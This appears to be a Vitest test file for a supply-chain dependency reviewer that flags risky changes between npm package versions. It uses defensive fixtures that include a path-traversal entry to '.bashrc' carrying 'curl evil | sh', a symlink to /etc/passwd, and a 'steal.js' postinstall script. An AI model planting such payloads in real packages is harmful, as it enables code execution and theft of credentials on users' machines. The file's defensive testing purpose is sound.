/**
 * inspectDependencies against the registry stand-in on loopback: each scenario publishes the old
 * and new versions, and the test asserts the exact report — facts, or why it was not inspected.
 */
import { createHash } from "node:crypto";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { inspectDependencies, type InspectOptions } from "../../src/dependencies/inspect.js";
import { changedPackages } from "../../src/dependencies/lockfile-changes.js";
import type { PackageChange } from "../../src/dependencies/types.js";
import { startNpmRegistry, type NpmRegistryStandIn, type PublishOptions, type PublishedVersion } from "../helpers/npm-registry.js";
import { packageTarball, sha1Integrity, sha512Integrity } from "../helpers/npm-tarball.js";

const NOW = Date.parse("2026-03-01T12:00:00.000Z");
const TOKEN = "npm-secret-token-1234";

let registry: NpmRegistryStandIn;
let cacheDir: string;
let warnings: string[];

beforeEach(async () => {
  registry = await startNpmRegistry();
  cacheDir = await mkdtemp(path.join(tmpdir(), "crewbot-npm-cache-"));
  warnings = [];
});
afterEach(async () => {
  await registry.close();
  await rm(cacheDir, { recursive: true, force: true });
});

const options = (extra: Partial<InspectOptions> = {}): InspectOptions => ({
  registry: { url: registry.url, token: TOKEN },
  cacheDir,
  maxPackages: 20,
  log: { warn: (message) => warnings.push(message) },
  now: () => NOW,
  ...extra,
});

const INDEX = "module.exports = function add(a, b) { return a + b; };\n";

/** Publishes old and new versions of `name` (publisher alice unless given) and the lockfile change between them. */
function bump(name: string, oldExtra: Partial<PublishOptions>, newExtra: Partial<PublishOptions>, change: Partial<PackageChange> = {}) {
  const old = registry.publish({ name, version: "1.0.0", files: { "index.js": INDEX }, publisher: "alice", maintainers: ["alice"], ...oldExtra });
  const now = registry.publish({ name, version: "1.1.0", files: { "index.js": INDEX.replace("add", "sum") }, publisher: "alice", maintainers: ["alice"], ...newExtra });
  return { old, now, change: lockChange(name, old, now, change) };
}

function lockChange(name: string, old: PublishedVersion | undefined, now: PublishedVersion | undefined, extra: Partial<PackageChange> = {}): PackageChange {
  const version = (p: PublishedVersion) => /-(\d[^/]*)\.tgz$/.exec(p.tarballPath)![1]!;
  return {
    name,
    location: `node_modules/${name}`,
    ...(old ? { old: { version: version(old), integrity: old.integrity } } : {}),
    ...(now ? { new: { version: version(now), integrity: now.integrity } } : {}),
    direct: true,
    file: "package-lock.json",
    line: 10,
    source: "lockfile",
    ...extra,
  };
}

describe("inspectDependencies: what a new version adds", () => {
  it("a clean bump has no facts", async () => {
    const { change } = bump("clean", {}, {});
    expect(await inspectDependencies([change], options())).toEqual({ packages: [{ change, facts: [] }] });
    expect(warnings).toEqual([]);
  });

  it("an added postinstall is critical and shows the command", async () => {
    const { change } = bump("scripted", {}, { manifest: { scripts: { test: "vitest", postinstall: "node setup.js" } } });
    const review = await inspectDependencies([change], options());
    expect(review.packages[0]!.facts).toEqual([{ kind: "install-script", severity: "critical", text: "adds a `postinstall` script: `node setup.js`", files: ["package.json"] }]);
  });

  it("a new child_process use is a warning naming the file", async () => {
    const { change } = bump("spawner", {}, { files: { "index.js": INDEX, "lib/run.js": 'const { execSync } = require("node:child_process");\nexecSync("id");\n' } });
    const review = await inspectDependencies([change], options());
    expect(review.packages[0]!.facts).toEqual([
      { kind: "child-process", severity: "warning", text: "now starts child processes (`child_process`); the old version did not, in `lib/run.js`", files: ["lib/run.js"] },
    ]);
  });

  it("a changed publisher is a warning", async () => {
    const { change } = bump("handover", {}, { publisher: "mallory" });
    const review = await inspectDependencies([change], options());
    expect(review.packages[0]!.facts).toEqual([{ kind: "publisher", severity: "warning", text: "is published by `mallory`; the old version was published by `alice`" }]);
  });

  it("a scoped package's document is asked for as @scope%2fname, its tarball under its scope", async () => {
    const { change } = bump("@team/util", {}, { manifest: { dependencies: { "left-pad": "^1.3.0" } } });
    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([{ kind: "new-dependency", severity: null, text: "adds a dependency: `left-pad` ^1.3.0" }]);
    expect(registry.requests.map((r) => r.url)).toEqual(["/@team%2futil", "/@team/util/-/util-1.1.0.tgz", "/@team/util/-/util-1.0.0.tgz", "/@team%2futil/1.1.0", "/@team%2futil/1.0.0"]);
  });

  it("a brand-new package counts everything it has as added", async () => {
    const now = registry.publish({ name: "fresh-cli", version: "2.0.0", manifest: { bin: { fresh: "cli.js" }, scripts: { preinstall: "node check.js" }, dependencies: { chalk: "^5.0.0" } }, files: { "cli.js": "fetch('https://example.test')" }, publishedAt: "2026-03-01T07:00:00.000Z", deprecated: "use other-cli" });
    const change = lockChange("fresh-cli", undefined, now);
    const review = await inspectDependencies([change], options());
    expect(review.packages[0]!.facts).toEqual([
      { kind: "install-script", severity: "critical", text: "adds a `preinstall` script: `node check.js`", files: ["package.json"] },
      { kind: "bin", severity: "warning", text: "adds an executable `fresh` (`cli.js`)", files: ["cli.js"] },
      { kind: "network", severity: "warning", text: "uses the network (`net`, `http(s)`, `dgram`, `tls`, `dns`, `fetch`, `WebSocket`), in `cli.js`", files: ["cli.js"] },
      { kind: "new-dependency", severity: null, text: "adds a dependency: `chalk` ^5.0.0" },
      { kind: "deprecated", severity: "warning", text: "is deprecated: “use other-cli”" },
      { kind: "fresh-release", severity: "warning", text: "was published 5 hours before this review (under 72 hours: hijacked releases are usually caught within days)" },
    ]);
  });
});

describe("inspectDependencies: tarballs that are refused", () => {
  it("an integrity mismatch is critical and the package is not compared", async () => {
    const { change } = bump("swapped", {}, { manifest: { scripts: { postinstall: "node steal.js" } } });
    const pinned = { ...change, new: { version: "1.1.0", integrity: sha512Integrity(packageTarball({ "package.json": "{}" })) } };
    const review = await inspectDependencies([pinned], options());
    expect(review.packages[0]).toEqual({
      change: pinned,
      facts: [
        {
          kind: "integrity-mismatch",
          severity: "critical",
          text: "the lockfile's integrity (sha512) for `swapped@1.1.0` is not the registry's: the lockfile pins a tarball the registry does not serve under that name and version, so it is not compared",
        },
      ],
    });
    expect(registry.tarballRequests()).toEqual([]); // the document settles it: nothing fetched, nothing cached
    expect(await readdir(cacheDir)).toEqual([]);
  });

  it("a sha1-only lockfile integrity is checked against the registry's shasum", async () => {
    const { change, now } = bump("legacy", {}, {});
    const sha1 = { ...change, new: { version: "1.1.0", integrity: sha1Integrity(now.tarball) } };
    expect(await inspectDependencies([sha1], options())).toEqual({ packages: [{ change: sha1, facts: [] }] });
    const wrong = { ...change, new: { version: "1.1.0", integrity: sha1Integrity(Buffer.from("other")) } };
    expect((await inspectDependencies([wrong], options())).packages[0]!.facts.map((f) => f.kind)).toEqual(["integrity-mismatch"]);
  });

  it("a lockfile hash the registry has no digest of is checked against the tarball's bytes", async () => {
    const { change, now } = bump("sha256", {}, {});
    const sha256 = (bytes: Buffer) => `sha256-${createHash("sha256").update(bytes).digest("base64")}`;
    const good = { ...change, new: { version: "1.1.0", integrity: sha256(now.tarball) } };
    expect((await inspectDependencies([good], options())).packages[0]!.facts).toEqual([]);
    const bad = { ...change, new: { version: "1.1.0", integrity: sha256(Buffer.from("other")) } };
    expect((await inspectDependencies([bad], options())).packages[0]!.facts).toEqual([
      {
        kind: "integrity-mismatch",
        severity: "critical",
        text: "the lockfile's integrity (sha256) for `sha256@1.1.0` is not the registry's: the lockfile pins a tarball the registry does not serve under that name and version, so it is not compared",
      },
    ]);
  });

  it("an oversized tarball is not inspected and the reason says 20 MB (cut while streaming)", async () => {
    const { change, now } = bump("huge", {}, {});
    registry.behave(now.tarballPath, { bytes: 21 * 1024 * 1024, chunked: true });
    const review = await inspectDependencies([change], options());
    expect(review.packages[0]).toEqual({ change, facts: [], notInspected: "its tarball is over 20 MB" });
    expect(warnings).toEqual(["dependency review: huge@1.1.0: its tarball is over 20 MB"]);
  });

  it("an oversized Content-Length is refused before the body", async () => {
    const { change, now } = bump("huge-declared", {}, {});
    registry.behave(now.tarballPath, { bytes: 25 * 1024 * 1024 });
    expect((await inspectDependencies([change], options())).packages[0]!.notInspected).toBe("its tarball is over 20 MB");
  });

  it("a path-traversal entry is refused as critical", async () => {
    const { change } = bump("climber", {}, { extraEntries: [{ type: "file", path: "package/../../.bashrc", body: "curl evil | sh" }] });
    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([
      { kind: "unsafe-entry", severity: "critical", text: "its tarball has a path out of the package folder `package/../../.bashrc`; npm refuses such entries, so it is not inspected", files: ["package/../../.bashrc"] },
    ]);
  });

  it("a symlink entry is refused as critical", async () => {
    const { change } = bump("linker", {}, { extraEntries: [{ type: "symlink", path: "package/config", target: "/etc/passwd" }] });
    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([
      { kind: "unsafe-entry", severity: "critical", text: "its tarball has a symbolic link `package/config` → `/etc/passwd`; npm refuses such entries, so it is not inspected", files: ["package/config"] },
    ]);
  });
});

describe("inspectDependencies: limits, cache and failures", () => {
  it("inspects at most maxPackages, direct ones first, and lists removals and the rest", async () => {
    const a = bump("trans-a", {}, {}, { direct: false, location: "node_modules/x/node_modules/trans-a" }).change;
    const b = bump("direct-b", {}, {}).change;
    const c = bump("trans-c", {}, {}, { direct: false }).change;
    const gone = lockChange("gone", registry.publish({ name: "gone", version: "1.0.0" }), undefined);
    const review = await inspectDependencies([a, gone, b, c], options({ maxPackages: 2 }));
    expect(review.packages.map((p) => [p.change.name, p.notInspected])).toEqual([
      ["trans-a", undefined],
      ["gone", "removed"],
      ["direct-b", undefined],
      ["trans-c", "over review.dependencies.maxPackages (2)"],
    ]);
    expect(registry.requests.map((r) => r.url).filter((u) => u.includes("trans-c") || u.includes("gone"))).toEqual([]);
  });

  it("a second run takes the tarballs from the cache; a corrupted cache file is fetched again", async () => {
    const { change, now } = bump("cached", {}, { manifest: { scripts: { install: "node-gyp rebuild" } } });
    const first = await inspectDependencies([change], options());
    expect(registry.tarballRequests()).toHaveLength(2);
    const files = (await readdir(cacheDir)).sort();
    expect(files).toHaveLength(2);
    registry.requests.length = 0;
    expect(await inspectDependencies([change], options())).toEqual(first);
    expect(registry.tarballRequests()).toEqual([]);
    const newFile = files.find((f) => f.startsWith(Buffer.from(now.integrity.slice(7), "base64").toString("hex")))!;
    await writeFile(path.join(cacheDir, newFile), "corrupt");
    expect(await inspectDependencies([change], options())).toEqual(first);
    expect(registry.tarballRequests().map((r) => r.url)).toEqual([now.tarballPath]);
  });

  it("a version the registry gives only a shasum for (published before 2017) is verified by it and not cached", async () => {
    const { change, old, now } = bump("ancient", { distIntegrity: null }, { distIntegrity: null });
    const sha1Lock = { ...change, old: { version: "1.0.0", integrity: sha1Integrity(old.tarball) }, new: { version: "1.1.0", integrity: sha1Integrity(now.tarball) } };
    expect(await inspectDependencies([sha1Lock], options())).toEqual({ packages: [{ change: sha1Lock, facts: [] }] });
    expect(await readdir(cacheDir)).toEqual([]);
    // npm 7+ writes a sha512 it computed itself: only the bytes can confirm it.
    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([]);
  });

  it("two sha512 hashes in the registry's own dist.integrity are critical", async () => {
    const { change, now } = bump("two-faced", {}, { distIntegrity: undefined });
    const { change: other } = bump("two-faced-b", {}, {});
    registry.publish({ name: "two-faced", version: "1.2.0", distIntegrity: `${now.integrity} ${other.new!.integrity}` });
    const lying = { ...change, new: { version: "1.2.0", integrity: now.integrity } };
    expect((await inspectDependencies([lying], options())).packages[0]!.facts).toEqual([
      { kind: "integrity-ambiguous", severity: "critical", text: "the registry gives `two-faced@1.2.0` 2 different sha512 hashes: which tarball it publishes cannot be known, so it is not compared" },
    ]);
  });

  it("fetches a name@version asked for twice once", async () => {
    const { change } = bump("twice", {}, {});
    const nested = { ...change, location: "node_modules/y/node_modules/twice", direct: false };
    const review = await inspectDependencies([change, nested], options());
    expect(review.packages.map((p) => p.facts)).toEqual([[], []]);
    expect(registry.requests.map((r) => r.url).sort()).toEqual(["/twice", "/twice/-/twice-1.0.0.tgz", "/twice/-/twice-1.1.0.tgz", "/twice/1.0.0", "/twice/1.1.0"]);
  });

  it.each([
    ["a 404 document", "/missing-doc", { status: 404 }, "the registry answered 404 for the document of `missing-doc`"],
    ["a 500 tarball", "/missing-doc/-/missing-doc-1.1.0.tgz", { status: 500 }, "the registry answered 500 for its tarball"],
    ["a tarball that never comes", "/missing-doc/-/missing-doc-1.1.0.tgz", { delayMs: 5_000 }, "the registry did not send its tarball within 300 ms"],
  ] as const)("%s is a reason, not a crash", async (_label, where, behaviour, reason) => {
    const { change } = bump("missing-doc", {}, {});
    registry.behave(where, behaviour);
    const review = await inspectDependencies([change], options({ timeoutMs: 300 }));
    expect(review.packages[0]).toEqual({ change, facts: [], notInspected: reason });
    expect(warnings).toEqual([`dependency review: missing-doc@1.1.0: ${reason}`]);
  });

  it("resolves a manifest's ranges to the highest versions they allow, verified against the document", async () => {
    for (const version of ["1.0.0", "1.2.0", "2.0.0", "2.1.0", "3.0.0-beta.1"]) registry.publish({ name: "ranged", version, files: { "index.js": INDEX } });
    const change: PackageChange = { name: "ranged", location: "ranged", old: { version: "^1.0.0" }, new: { version: "^2.0.0" }, direct: true, file: "package.json", line: 12, source: "manifest" };
    expect(await inspectDependencies([change], options())).toEqual({ packages: [{ change, facts: [] }] });
    expect(registry.tarballRequests().map((r) => r.url).sort()).toEqual(["/ranged/-/ranged-1.2.0.tgz", "/ranged/-/ranged-2.1.0.tgz"]);
    const aliased = { ...change, new: { version: "npm:other@^2" } };
    expect((await inspectDependencies([aliased], options())).packages[0]!.notInspected).toBe("`npm:other@^2` is not a registry version range");
  });

  it("a git dependency is listed, not fetched", async () => {
    const change: PackageChange = { name: "from-git", location: "node_modules/from-git", new: { version: "1.0.0", nonRegistry: "a git dependency" }, direct: true, file: "package-lock.json", line: 3, source: "lockfile" };
    expect((await inspectDependencies([change], options())).packages[0]!.notInspected).toBe("a git dependency, not from a registry: not fetched");
    expect(registry.requests).toEqual([]);
  });
});

describe("inspectDependencies: what it asks the registry", () => {
  it("a registry that refuses a version's manifest (npm's public one did for scoped names) gives people from the full document", async () => {
    const { change } = bump("@team/people", {}, { publisher: "mallory" });
    registry.behave("/@team%2fpeople/1.1.0", { status: 401 });
    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([{ kind: "publisher", severity: "warning", text: "is published by `mallory`; the old version was published by `alice`" }]);
    expect(registry.requests.map((r) => [r.url, r.served])).toEqual([
      ["/@team%2fpeople", "abbreviated"],
      ["/@team/people/-/people-1.1.0.tgz", "tarball"],
      ["/@team/people/-/people-1.0.0.tgz", "tarball"],
      ["/@team%2fpeople/1.1.0", undefined],
      ["/@team%2fpeople", "full"],
    ]);
  });

  it("a manifest that fails otherwise (a 500) is the package's reason", async () => {
    const { change } = bump("flaky-meta", {}, {});
    registry.behave("/flaky-meta/1.1.0", { status: 500 });
    expect((await inspectDependencies([change], options())).packages[0]!.notInspected).toBe("the registry answered 500 for the manifest of `flaky-meta@1.1.0`");
  });

  it("an abbreviated document that does not say when it was modified is not trusted for freshness: the full one is read", async () => {
    const now = registry.publish({ name: "undated", version: "1.0.0", files: { "index.js": INDEX } });
    const fetchWithoutModified: typeof fetch = async (input, init) => {
      const response = await fetch(input, init);
      if (response.headers.get("content-type") !== "application/vnd.npm.install-v1+json") return response;
      const { modified: _dropped, ...document } = (await response.json()) as Record<string, unknown>;
      return new Response(JSON.stringify(document), { status: 200, headers: { "content-type": "application/vnd.npm.install-v1+json" } });
    };
    expect((await inspectDependencies([lockChange("undated", undefined, now)], options({ fetch: fetchWithoutModified }))).packages[0]!.facts).toEqual([]);
    expect(registry.fullDocumentRequests().map((r) => r.url)).toEqual(["/undated"]);
  });

  it("a brand-new package needs no manifest: no publisher to compare", async () => {
    const now = registry.publish({ name: "lonely", version: "1.0.0", files: { "index.js": INDEX } });
    expect((await inspectDependencies([lockChange("lonely", undefined, now)], options())).packages[0]!.facts).toEqual([]);
    expect(registry.requests.map((r) => r.url)).toEqual(["/lonely", now.tarballPath]);
  });
});

describe("inspectDependencies: requests go to the operator's registry only", () => {
  let elsewhere: NpmRegistryStandIn;
  beforeEach(async () => void (elsewhere = await startNpmRegistry()));
  afterEach(() => elsewhere.close());

  it("sends the token to the registry, and ignores a document's dist.tarball on another origin", async () => {
    const decoy = elsewhere.publish({ name: "moved", version: "1.1.0" });
    const { change } = bump("moved", {}, { distTarball: new URL(decoy.tarballPath.slice(1), elsewhere.url).href });
    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([]);
    expect(registry.requests.map((r) => [r.url, r.authorization])).toEqual([
      ["/moved", `Bearer ${TOKEN}`],
      ["/moved/-/moved-1.1.0.tgz", `Bearer ${TOKEN}`],
      ["/moved/-/moved-1.0.0.tgz", `Bearer ${TOKEN}`],
      ["/moved/1.1.0", `Bearer ${TOKEN}`],
      ["/moved/1.0.0", `Bearer ${TOKEN}`],
    ]);
    expect(elsewhere.requests).toEqual([]);
    expect(warnings.join("\n")).not.toContain(TOKEN);
  });

  it("does not follow a redirect to another host", async () => {
    const { change, now } = bump("redirected", {}, {});
    registry.behave(now.tarballPath, { redirect: `${elsewhere.url}redirected/-/redirected-1.1.0.tgz` });
    expect((await inspectDependencies([change], options())).packages[0]!.notInspected).toBe(`the registry sent its tarball to another host (${new URL(elsewhere.url).host}); not followed`);
    expect(elsewhere.requests).toEqual([]);
  });
});

describe("from a pull request's lockfile to the report", () => {
  let elsewhere: NpmRegistryStandIn;
  beforeEach(async () => void (elsewhere = await startNpmRegistry()));
  afterEach(() => elsewhere.close());

  it("never requests a lockfile's `resolved` URL", async () => {
    const old = registry.publish({ name: "pinned", version: "1.0.0", files: { "index.js": INDEX } });
    const now = registry.publish({ name: "pinned", version: "1.0.1", files: { "index.js": `${INDEX}// 1.0.1\n` } });
    elsewhere.publish({ name: "pinned", version: "1.0.1", files: { "index.js": "require('child_process')" } });
    const lock = (version: string, integrity: string) =>
      JSON.stringify({ lockfileVersion: 3, packages: { "": { dependencies: { pinned: "^1.0.0" } }, "node_modules/pinned": { version, resolved: `${elsewhere.url}pinned/-/pinned-${version}.tgz`, integrity } } }, null, 2);
    const reader = (text: string) => ({ read: async (file: string) => (file === "package-lock.json" ? text : undefined) });
    const { changes, problems } = await changedPackages(["package-lock.json"], reader(lock("1.0.0", old.integrity)), reader(lock("1.0.1", now.integrity)));
    expect(problems).toEqual([]);
    const review = await inspectDependencies(changes, options());
    expect(review.packages.map((p) => [p.change.name, p.change.direct, p.change.line, p.facts, p.notInspected])).toEqual([["pinned", true, 10, [], undefined]]);
    expect(elsewhere.requests).toEqual([]);
    expect(registry.requests.map((r) => r.url)).toEqual(["/pinned", "/pinned/-/pinned-1.0.1.tgz", "/pinned/-/pinned-1.0.0.tgz", "/pinned/1.0.1", "/pinned/1.0.0"]);
  });
});
